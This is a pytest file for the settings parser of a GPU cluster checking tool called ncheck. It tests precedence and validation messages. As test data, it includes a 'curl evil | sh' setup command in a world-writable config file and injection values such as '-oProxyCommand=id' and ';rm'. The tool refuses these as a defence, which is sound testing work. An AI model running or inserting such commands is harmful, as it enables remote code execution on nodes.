"""Settings of flags, variables and ncheck.toml, and what cannot be meant."""

from __future__ import annotations

import os
from collections.abc import Mapping
from dataclasses import replace
from pathlib import Path

import pytest
from ncheck.errors import SettingsError
from ncheck.facts.expected import ExpectedFacts
from ncheck.facts.requirements import Requirement
from ncheck.model.op import Op
from ncheck.settings import HostOverride, Ignore, JobEnvironment, Output, Settings, make_settings

LINE_BREAK = "it contains a line break; join the commands with ';', as in 'module load nccl; source env.sh'"
ONLY_A_FLAG = "is not allowed in a settings file"
SIZES_AS = "write bytes per rank, as in 8, 64K, 1M, 1G, 8-1G or 1M,64M,1G"
OPS_AS = "all-reduce, all-gather, reduce-scatter, all-to-all, broadcast, send-recv, training, moe"
SIZES_FROM = ": expected a size from 8 bytes to 64G, a multiple of 4 bytes (a float)"
OF_THE_MOMENT = "give it as an option of each run"


def made(folder: Path, toml: str | None = None, environ: Mapping[str, str] | None = None, **flags: object) -> Settings:
    if toml is not None:
        (folder / "ncheck.toml").write_text(toml)
    return make_settings(flags, environ or {}, folder)


def refused(folder: Path, toml: str | None = None, environ: Mapping[str, str] | None = None, **flags: object) -> str:
    with pytest.raises(SettingsError) as caught:
        made(folder, toml, environ, **flags)
    return str(caught.value)


def test_with_nothing_given_the_defaults_stand(tmp_path: Path) -> None:
    assert made(tmp_path) == Settings()
    assert made(tmp_path, port=None, sudo=False, select=(), ignore=()) == Settings()


def test_a_flag_outweighs_a_variable_and_that_the_file(tmp_path: Path) -> None:
    toml = "port = 1\nwidth = 2\ndeadline = 3\nuser = 'four'"
    environ = {"NCHECK_PORT": "10", "NCHECK_WIDTH": "20", "NCHECK_CORPUS": "not ours to judge"}
    assert made(tmp_path, toml, environ, port=100) == Settings(port=100, width=20, deadline=3.0, user="four")


QUICK = Settings(probe="none")
ACCEPTANCE = Settings(
    level="acceptance",
    gpu_test="long",
    repeats=20,
    mesh="all",
    storage_probe=True,
    nic_test=True,
    deadline=300.0,
    probe_time=600.0,
)


def test_a_level_sets_what_nothing_else_sets_wherever_either_is_set(tmp_path: Path) -> None:
    assert made(tmp_path, level="standard") == Settings()
    assert (
        made(tmp_path, level="quick") == made(tmp_path, "", {"NCHECK_LEVEL": "quick"}) == replace(QUICK, level="quick")
    )
    assert made(tmp_path, "level = 'acceptance'") == ACCEPTANCE
    assert made(tmp_path, "level = 'quick'", {"NCHECK_LEVEL": "standard"}, level="acceptance") == ACCEPTANCE
    toml, environ = "probe = 'tcp'\nmesh = 'none'\nstorage-probe = false", {"NCHECK_REPEATS": "7"}
    settings = made(tmp_path, toml, environ, level="acceptance", deadline=50)
    assert settings == replace(ACCEPTANCE, probe="tcp", mesh="none", storage_probe=False, repeats=7, deadline=50.0)
    assert settings.beside_level == ("probe tcp", "repeats 7", "mesh none", "storage-probe false", "deadline 50")
    assert made(tmp_path, "", level="acceptance", storage_probe=False) == replace(ACCEPTANCE, storage_probe=False)
    assert made(tmp_path, "level = 'quick'", probe="gloo").beside_level == ("probe gloo",)
    assert (ACCEPTANCE.beside_level, QUICK.beside_level) == ((), ("probe none",))
    assert refused(tmp_path, "gpu-test = 'long'", level="quick") == (
        "--level quick measures nothing, and no GPU as ncheck.toml: gpu-test asks: add --probe auto, or --gpu-test none"
    )
    assert made(tmp_path, "gpu-test = 'long'", level="quick", probe="auto").gpu_test == "long"
    assert refused(tmp_path, "level = 4") == "ncheck.toml: level: expected one of quick, standard, acceptance, not '4'"


def test_a_slow_check_of_the_site_shortens_no_level(tmp_path: Path) -> None:
    check = "[[check]]\ncode = 'X1'\nname = 'slow'\nrun = 'true'\ntimeout = "
    (tmp_path / "ncheck.toml").write_text(f"level = 'acceptance'\n{check}100")
    assert made(tmp_path, config="ncheck.toml").deadline == 300
    assert made(tmp_path, level="quick", config="ncheck.toml").deadline == 200


def test_via_srun_the_launcher_is_srun_unless_another_is_named(tmp_path: Path) -> None:
    assert made(tmp_path, "", {}, via="srun").launcher == "srun"
    assert made(tmp_path, "", {"NCHECK_VIA": "srun"}, launcher="mpirun").launcher == "mpirun"
    assert made(tmp_path, "", {}).launcher is None


@pytest.mark.parametrize(("ignore", "wanted"), [
    (("a,b",), (Ignore("a"), Ignore("b"))),
    (("a, b", "c"), (Ignore("a"), Ignore("b"), Ignore("c"))),
    (("a,b=node[01-02],x",), (Ignore("a", "node[01-02],x"), Ignore("b", "node[01-02],x"))),
])  # fmt: skip
def test_several_checks_are_ignored_by_one_word_on_the_same_nodes(
    ignore: tuple[str, ...], wanted: tuple[Ignore, ...], tmp_path: Path
) -> None:
    assert made(tmp_path, ignore=ignore).ignore == wanted


def test_every_flag_has_its_place(tmp_path: Path) -> None:
    key = tmp_path / "key"
    key.touch()
    settings = made(
        tmp_path, nodes_file="nodes.txt", port="10001", user="alice", identity=str(key), ssh_config="none",
        transport="openssh", accept_new_host_keys=True, python="/opt/python", setup="module load nccl; source e.sh",
        enter="docker exec -i train", rsh="kubectl exec -i {node} --", sudo=True, width=8, connect_timeout=1.5,
        command_timeout="20", deadline=100, mesh="none", probe="none", select=("NC1", "NC201,NC202"),
        ignore=("NC305=node[01-04],login", "banner"), fail_on="warning,unknown", output="json", record="out",
    )  # fmt: skip
    assert settings == Settings(
        nodes_file="nodes.txt", port=10001, user="alice", identity=str(key), ssh_config="none", transport="openssh",
        accept_new_host_keys=True, sudo=True, width=8, connect_timeout=1.5, command_timeout=20.0, deadline=100.0,
        environment=JobEnvironment("/opt/python", "module load nccl; source e.sh", "docker exec -i train",
                                   "kubectl exec -i {node} --"),
        mesh="none", probe="none", select=("NC1", "NC201", "NC202"),
        ignore=(Ignore("NC305", "node[01-04],login"), Ignore("banner")), fail_on=("warning", "unknown"),
        output=(Output("json"),), record="out",
    )  # fmt: skip


@pytest.mark.parametrize(("typed", "sizes"), [
    ("8", (8,)), ("64K", (65536,)), ("1GiB", (2**30,)), ("1mb", (2**20,)), ("1M, 64M,1M", (2**20, 2**26)),
    ("8-64", (8, 16, 32, 64)), ("8-60", (8, 16, 32)), (["1M", "2M-4M"], (2**20, 2**21, 2**22)), (8, (8,)),
])  # fmt: skip
def test_sizes_are_a_list_a_range_of_powers_or_both(tmp_path: Path, typed: object, sizes: tuple[int, ...]) -> None:
    assert made(tmp_path, sizes=typed).sizes == sizes


def test_the_probe_has_its_place_in_flags_and_in_the_file(tmp_path: Path) -> None:
    toml = 'probe = "nccl"\nprobe-time = 30\nprobe-launcher = "mpirun"\nsizes = "1M,1G"\nrepeats = 20\nexpect = 380'
    toml += '\nops = ["moe", "broadcast"]'
    told = Settings(
        probe="nccl", probe_time=30.0, probe_launcher="mpirun", sizes=(2**20, 2**30), repeats=20, expect=380.0,
        ops=(Op.ALL_REDUCE, Op.ALL_GATHER, Op.REDUCE_SCATTER, Op.ALL_TO_ALL, Op.BROADCAST),
    )  # fmt: skip
    assert made(tmp_path, toml) == told
    flags: dict[str, object] = {
        "probe": "nccl",
        "probe_time": "30",
        "probe_launcher": "mpirun",
        "sizes": "1M,1G",
        "repeats": "20",
        "expect": "380",
        "ops": "training,alltoall, broadcast,all-reduce",
    }
    (tmp_path / "ncheck.toml").unlink()
    assert made(tmp_path, None, None, **flags) == told


@pytest.mark.parametrize(
    ("typed", "busbw", "expected"),
    [
        ("380", 380.0, None),
        ("busbw=380", 380.0, None),
        (
            "gpus=8, nccl=2.21.5,driver>=550",
            None,
            ExpectedFacts(gpus=8, versions={"nccl": "2.21.5", "driver": ">=550"}),
        ),
        ({"gpu": "H100", "hcas": 8, "rate": 400, "busbw": 350}, 350.0, ExpectedFacts(gpu="H100", hcas=8, rate=400.0)),
    ],
)
def test_what_is_expected_is_a_list_a_table_or_a_bandwidth(
    tmp_path: Path, typed: object, busbw: float | None, expected: ExpectedFacts | None
) -> None:
    settings = made(tmp_path, expect=typed)
    assert (settings.expect, settings.run.expected) == (busbw, expected)


def test_a_table_of_the_file_says_what_is_expected(tmp_path: Path) -> None:
    assert made(tmp_path, "[expect]\ngpus = 8\nnccl = '2.21.5'").run.expected == ExpectedFacts(
        8, versions={"nccl": "2.21.5"}
    )


def test_every_key_of_the_file_has_its_place(tmp_path: Path) -> None:
    (tmp_path / "keys").mkdir()
    (tmp_path / "keys/id").touch()
    (tmp_path / "ssh_config").touch()
    toml = """
        nodes = "hosts.txt"
        identity = "keys/id"
        ssh-config = "ssh_config"
        setup = "module load nccl"
        connect-timeout = 5
        fail-on = ["error"]
        select = ["NC1", "NC2"]
        ignore = ["NC305=node07"]
        sudo = true
        [host."node[01-02]"]
        python = "/opt/conda/bin/python"
    """
    assert made(tmp_path, toml, config="ncheck.toml") == Settings(
        nodes_file=f"{tmp_path}/hosts.txt", identity=f"{tmp_path}/keys/id", ssh_config=f"{tmp_path}/ssh_config",
        environment=JobEnvironment(setup="module load nccl"), connect_timeout=5.0, fail_on=("error",),
        select=("NC1", "NC2"), ignore=(Ignore("NC305", "node07"),), sudo=True,
        overrides=(HostOverride("node[01-02]", JobEnvironment(python="/opt/conda/bin/python")),),
    )  # fmt: skip


def test_the_environment_of_a_node_is_the_first_override_s_and_for_the_rest_the_run_s(tmp_path: Path) -> None:
    toml = """
        setup = "module load nccl"
        enter = "docker exec -i train"
        [host."node[01-04]"]
        python = "/a"
        enter = ""
        [host."node04,login"]
        python = "/b"
    """
    settings = made(tmp_path, toml, config="ncheck.toml")
    assert settings.environment_of("node04") == JobEnvironment("/a", "module load nccl")
    assert settings.environment_of("login") == JobEnvironment("/b", "module load nccl", "docker exec -i train")
    assert settings.environment_of("gpu1") == JobEnvironment(None, "module load nccl", "docker exec -i train")


def test_a_flag_holds_for_every_node_whatever_the_file_says_of_some(tmp_path: Path) -> None:
    settings = made(tmp_path, '[host.node01]\npython = "/a"\nsetup = "x"\n', python="/mine", config="ncheck.toml")
    assert settings.environment_of("node01") == JobEnvironment("/mine", "x")


def test_nodes_on_the_command_line_replace_those_of_the_file(tmp_path: Path) -> None:
    assert made(tmp_path, 'nodes = "hosts.txt"', hosts="a,b") == Settings(hosts="a,b")
    assert made(tmp_path, 'nodes = "hosts.txt"', slurm=True) == Settings(slurm=True)


@pytest.mark.parametrize(
    ("flags", "message"),
    [
        ({"setup": "a\nb"}, f"--setup: {LINE_BREAK}"),
        ({"setup": "a\x1bb"}, "--setup: it contains unprintable characters"),
        ({"enter": "docker 'exec"}, "--enter: it cannot be split into words: no closing quotation"),
        ({"width": 0}, "--width: expected a whole number from 1 to 1024, not '0'"),
        ({"width": "1025"}, "--width: expected a whole number from 1 to 1024, not '1025'"),
        ({"width": "9" * 5000}, "--width: expected a whole number from 1 to 1024, not '" + "9" * 57 + "...'"),
        ({"port": 65536}, "--port: expected a whole number from 1 to 65535, not '65536'"),
        ({"expect": "gpus"}, "--expect: expected a bus bandwidth in GB/s, as in 380, not 'gpus'"),
        ({"expect": "gpus=x"}, "--expect: gpus: expected a whole number from 0 to 1024, not 'x'"),
        ({"expect": "nccl=new"}, "--expect: nccl: expected a version, as in 2.21.5 or >=2.19, not 'new'"),
        ({"expect": "gpu=;rm"}, "--expect: gpu: expected words of its name, as in H100, not ';rm'"),
        ({"expect": "nccl=2,=3"}, "--expect: '=3' is not NAME=VALUE, as in nccl=2.21.5"),
        ({"deadline": 0}, "--deadline: expected a number of seconds above 0, not '0'"),
        ({"deadline": "0"}, "--deadline: expected a number of seconds above 0, not '0'"),
        ({"connect_timeout": "nan"}, "--connect-timeout: expected a number of seconds above 0, not 'nan'"),
        ({"command_timeout": "inf"}, "--command-timeout: expected a number of seconds above 0, not 'inf'"),
        ({"command_timeout": "1_0"}, "--command-timeout: expected a number of seconds above 0, not '1_0'"),
        ({"command_timeout": "\u0663"}, "--command-timeout: expected a number of seconds above 0, not '\u0663'"),
        ({"deadline": 10**400}, "--deadline: expected a number of seconds above 0, not '1" + "0" * 56 + "...'"),
        ({"fail_on": "fatal"}, "--fail-on: 'fatal' is not one of error, warning, info, unknown, never"),
        ({"fail_on": "never,error"}, "--fail-on: never cannot be combined with other values"),
        ({"ignore": ("=node01",)}, "--ignore: '' is not a check; write its code or name, as in NC305 or NC305=node07"),
        ({"ignore": ("a,,b",)}, "--ignore: '' is not a check; write its code or name, as in NC305 or NC305=node07"),
        ({"ignore": ("NC305=",)}, "--ignore: 'NC305=' names no node; write NC305=node07, or NC305 alone for all nodes"),
        ({"ignore": ("NC305=;",)}, "--ignore: ';' is not a host name: only letters, digits, '.', '_' and '-' are allowed"),  # noqa: E501
        ({"select": ("NC 1",)}, "--select: 'NC 1' is not a list of names, as in a,b"),
        ({"mesh": "ring"}, "--mesh: expected one of auto, all, none, not 'ring'"),
        ({"probe": "full"}, "--probe: expected one of auto, nccl, nccl-tests, gloo, tcp, none, not 'full'"),
        ({"probe_time": "1e9"}, "--probe-time: expected at most 86400 seconds (a day), not '1e9'"),
        ({"probe_time": "0"}, "--probe-time: expected a number of seconds above 0, not '0'"),
        ({"probe_launcher": "srun"}, "--probe-launcher: expected one of agents, mpirun, not 'srun'"),
        ({"ops": "reduce"}, f"--op: expected {OPS_AS}, not 'reduce'"),
        ({"ops": []}, "--op: it is empty"),
        ({"sizes": "big"}, f"--sizes: 'big' is not a size; {SIZES_AS}"),
        ({"sizes": "1M,"}, "--sizes: '1M,' lacks a size; write 8-1G, or 1M,64M,1G"),
        ({"sizes": ""}, "--sizes: '' lacks a size; write 8-1G, or 1M,64M,1G"),
        ({"sizes": "-1"}, "--sizes: '-1' lacks one end; write both, as in 8-1G"),
        ({"sizes": "8-"}, "--sizes: '8-' lacks one end; write both, as in 8-1G"),
        ({"sizes": "8-1G-2G"}, f"--sizes: '1G-2G' is not a size; {SIZES_AS}"),
        ({"sizes": "1e9"}, f"--sizes: '1e9' is not a size; {SIZES_AS}"),
        ({"sizes": "1T"}, f"--sizes: '1T' is not a size; {SIZES_AS}"),
        ({"sizes": "²"}, f"--sizes: '²' is not a size; {SIZES_AS}"),
        ({"sizes": "9" * 5000}, "--sizes: '" + "9" * 57 + f"...' is not a size; {SIZES_AS}"),
        ({"sizes": "1G-8"}, "--sizes: '1G-8' is reversed; write the smaller size first, as in 8-1G"),
        ({"sizes": "0"}, f"--sizes: '0'{SIZES_FROM}"),
        ({"sizes": "4"}, f"--sizes: '4'{SIZES_FROM}"),
        ({"sizes": "65G"}, f"--sizes: '65G'{SIZES_FROM}"),
        ({"sizes": "1001"}, f"--sizes: '1001'{SIZES_FROM}"),
        ({"repeats": "0"}, "--repeats: expected a whole number from 1 to 500, not '0'"),
        ({"repeats": "501"}, "--repeats: expected a whole number from 1 to 500, not '501'"),
        ({"repeats": "5.0"}, "--repeats: expected a whole number from 1 to 500, not '5.0'"),
        ({"expect": "0"}, "--expect: expected a bus bandwidth in GB/s, as in 380, not '0'"),
        ({"expect": "inf"}, "--expect: expected a bus bandwidth in GB/s, as in 380, not 'inf'"),
        ({"transport": "rsh"}, "--transport: expected one of auto, paramiko, openssh, not 'rsh'"),
        ({"user": "-oProxyCommand=id"}, "--user: '-oProxyCommand=id' is not a user name"),
        ({"user": "a;b"}, "--user: 'a;b' is not a user name"),
        ({"identity": "/no/such/key"}, "-i: /no/such/key is not a file; to list your keys: ls ~/.ssh"),
        ({"ssh_config": "/no/config"}, "-F: /no/config is not a file; to list the files: ls ~/.ssh"),
        ({"ssh_config": "/"}, "-F: / is not a file; to list the files: ls ~/.ssh"),
        ({"nodes_file": "a", "hosts": "b"}, "the nodes file and -H both select the nodes: use only one of them"),
        ({"hosts": "b", "slurm": True}, "-H and --slurm both select the nodes: use only one of them"),
        ({"probe": "tcp", "probe_launcher": "mpirun"},
         "--probe-launcher mpirun starts NCCL ranks, but --probe tcp has none: remove one of the two"),
        ({"nodes_file": ""}, "the nodes file: it is empty"), ({"hosts": " "}, "-H: it is empty"),
        ({"config": "mine.toml"}, "mine.toml: no such file"),
    ],
)  # fmt: skip
def test_a_flag_that_cannot_be_meant_is_told(tmp_path: Path, flags: dict[str, object], message: str) -> None:
    assert refused(tmp_path, None, None, **flags) == message


@pytest.mark.parametrize(
    ("toml", "message"),
    [
        ("prot = 22", "unknown setting 'prot'; did you mean port?"),
        ("hots = 'a'", "unknown setting 'hots'; did you mean host?"),
        ("port = '22nd'", "port: expected a whole number from 1 to 65535, not '22nd'"),
        ("port = true", "port: expected a whole number from 1 to 65535, not 'True'"),
        ("sudo = 1.5", "sudo: expected true or false, not 1.5"),
        ("select = 5", "select: expected text or a list of text"),
        ("ignore = ['NC5=']", "ignore: 'NC5=' names no node; write NC5=node07, or NC5 alone for all nodes"),
        ("ignore = [5]", "ignore: expected CHECK or CHECK=nodes"),
        ("setup = '''a\nb'''", f"setup: {LINE_BREAK}"),
        ("accept-new-host-keys = true", f"accept-new-host-keys {ONLY_A_FLAG}: {OF_THE_MOMENT}"),
        ("hosts = 'a'", f'hosts {ONLY_A_FLAG}: name a host file by nodes = "hosts.txt", or use the option -H'),
        ("host = 5", 'host: expected a table for a set of nodes: [host."node[01-04]"]'),
        ("[host]\na = 5", "host.'a': expected a table"),
        ("[host.'n[1-']\nsetup = 'x'", "host.'n[1-': 'n[1-' is not a host range; write it as node[01-16,20]"),
        ("[host.a]\nport = 22", "host.'a': unknown setting 'port'; known settings: enter, python, rsh, setup"),
        ("[host.a]\nstup = 'x'", "host.'a': unknown setting 'stup'; did you mean setup?"),
    ],
)  # fmt: skip
def test_a_file_that_cannot_be_meant_is_told_with_its_key(tmp_path: Path, toml: str, message: str) -> None:
    assert refused(tmp_path, toml) == f"ncheck.toml: {message}"


def test_a_file_that_is_no_toml_is_told_with_its_line(tmp_path: Path) -> None:
    assert refused(tmp_path, "port = 22\nwidth = = 3\n").startswith("ncheck.toml: invalid TOML: ")
    (tmp_path / "ncheck.toml").write_bytes(b"user = '\xff'")
    assert refused(tmp_path) == "ncheck.toml: it is not UTF-8"
    assert refused(tmp_path, "a = " + "[" * 2000) == "ncheck.toml: invalid TOML: it is nested too deep"


def test_a_bad_variable_is_told_by_its_name(tmp_path: Path) -> None:
    assert refused(tmp_path, None, {"NCHECK_PORT": "ssh"}) == (
        "NCHECK_PORT: expected a whole number from 1 to 65535, not 'ssh'"
    )


def test_a_file_may_be_named_or_left_out(tmp_path: Path) -> None:
    (tmp_path / "mine.toml").write_text("port = 7")
    assert made(tmp_path, "port = 5", config="mine.toml") == Settings(port=7)
    assert made(tmp_path, "port = 5", {"NCHECK_CONFIG": "mine.toml"}) == Settings(port=7)
    assert made(tmp_path, "port = 5", config="none") == Settings()


def test_a_found_file_that_anybody_may_write_to_is_refused_and_a_named_one_is_used(tmp_path: Path) -> None:
    (tmp_path / "ncheck.toml").write_text("setup = 'curl evil | sh'")
    (tmp_path / "ncheck.toml").chmod(0o666)
    assert refused(tmp_path) == (
        "ncheck.toml: all users can write to it, and it can contain commands that run on the nodes: "
        "chmod o-w ncheck.toml"
    )
    settings = made(tmp_path, config="ncheck.toml")
    assert settings.environment == JobEnvironment(setup="curl evil | sh")


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can give a file away")
def test_a_found_file_of_somebody_else_is_refused_unless_sudo_was_theirs(tmp_path: Path) -> None:
    (tmp_path / "ncheck.toml").write_text("port = 5")
    os.chown(tmp_path / "ncheck.toml", 4242, 4242)
    assert refused(tmp_path) == (
        "ncheck.toml: it belongs to user 4242, not to you, and can contain commands that run on the nodes; read it,"
        " then use --config ncheck.toml (or --config none to run without it)"
    )
    assert made(tmp_path, None, {"SUDO_UID": "4242"}) == Settings(port=5)
    assert made(tmp_path, config="ncheck.toml") == Settings(port=5)


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can give a file to any group")
def test_a_found_file_that_a_shared_group_may_write_to_is_refused(tmp_path: Path) -> None:
    (tmp_path / "ncheck.toml").write_text("port = 5")
    (tmp_path / "ncheck.toml").chmod(0o664)
    assert made(tmp_path) == Settings(port=5)
    os.chown(tmp_path / "ncheck.toml", 0, 4242)
    (tmp_path / "ncheck.toml").chmod(0o664)
    assert refused(tmp_path) == (
        "ncheck.toml: its group can write to it, and it can contain commands that run on the nodes: "
        "chmod g-w ncheck.toml"
    )


def test_a_link_to_nowhere_is_no_silent_default(tmp_path: Path) -> None:
    (tmp_path / "ncheck.toml").symlink_to("gone.toml")
    assert refused(tmp_path) == "ncheck.toml: no such file"


def test_the_folder_of_the_code_is_absolute_from_here_or_from_the_file(tmp_path: Path) -> None:
    code, sub = str(tmp_path / "code"), tmp_path / "sub"
    sub.mkdir()
    (sub / "ncheck.toml").write_text('workdir = "code"')
    assert [made(tmp_path, workdir="code").workdir, made(tmp_path, workdir=code).workdir] == [code, code]
    assert made(tmp_path, config="sub/ncheck.toml").workdir == str(sub / "code")


def test_requirements_are_expected_of_every_node_beside_what_else_is(tmp_path: Path) -> None:
    path = tmp_path / "requirements.txt"
    path.write_text("torch>=2.3\n")
    told = ExpectedFacts(gpus=8, commit="97ff6cf", requirements=(Requirement("torch", ">=2.3"),))
    assert made(tmp_path, requirements=str(path), expect="gpus=8,commit=97ff6cf").run.expected == told
    file = "requirements = 'requirements.txt'\n[expect]\ngpus = 8\ncommit = '97ff6cf'"
    assert made(tmp_path, file).run.expected == told


def test_requirements_that_cannot_be_read_or_judged_are_refused(tmp_path: Path) -> None:
    path = tmp_path / "r.txt"
    assert refused(tmp_path, requirements=str(path)) == f"--requirements: {path}: No such file or directory"
    path.write_bytes(b"\xff\xfe")
    assert refused(tmp_path, requirements=str(path)).startswith(f"--requirements: {path}: 'utf-8' codec can't decode")
    path.write_text("-r more.txt")
    assert refused(tmp_path, requirements=str(path)) == (
        f"--requirements: {path}: line 1: '-r more.txt' names another file, which is not read: put its lines here"
    )


def test_a_commit_is_seven_digits_at_least(tmp_path: Path) -> None:
    assert refused(tmp_path, expect="commit=main") == (
        "--expect: commit: expected 7 to 64 digits of a commit, as in 97ff6cf, not 'main'"
    )
